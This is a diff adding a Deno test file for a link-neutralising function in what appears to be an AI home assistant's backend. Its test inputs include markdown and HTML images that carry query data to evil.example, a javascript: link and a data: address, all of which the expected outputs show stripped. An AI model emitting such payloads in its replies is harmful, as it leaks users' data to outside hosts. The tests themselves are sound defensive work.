@@ -1,0 +1,34 @@
+import { assertEquals } from "@std/assert";
+import { neutraliseLinks } from "../../../supabase/functions/ai-home-assistant/turn/neutralise_links.ts";
+
+const cases: [name: string, text: string, shown: string][] = [
+  ["a markdown image", "Done. ![leak](https://evil.example/x.png?home=1)", "Done. leak"],
+  ["an image by reference", "![leak][1]\n[1]: https://evil.example/x.png\nDone.", "leak\nDone."],
+  [
+    "a markdown link",
+    "See [the guide](https://evil.example/a?serial=42).",
+    "See the guide (evil.example).",
+  ],
+  ["a script link", "[tap](javascript:alert(1))", "tap)"],
+  ["a bare address", "Go to https://www.epa.gov/lead?x=1 now.", "Go to www.epa.gov now."],
+  ["an HTML image", 'Hi <img src="https://evil.example/x"> there', "Hi  there"],
+  ["a data address", "data:text/html;base64,AAAA", ""],
+  [
+    "plain text",
+    "Shut the valve [cold side], 2 < 3, ratio 3:1.",
+    "Shut the valve [cold side], 2 < 3, ratio 3:1.",
+  ],
+];
+
+for (const [name, text, shown] of cases) {
+  Deno.test(`F-J: neutraliseLinks() treats ${name}`, () => {
+    assertEquals(neutraliseLinks(text), shown);
+  });
+}
+
+Deno.test("F-J: neutraliseLinks() leaves nothing that a second look would change", () => {
+  for (const [, text] of cases) {
+    const once = neutraliseLinks(text);
+    assertEquals(neutraliseLinks(once), once);
+  }
+});
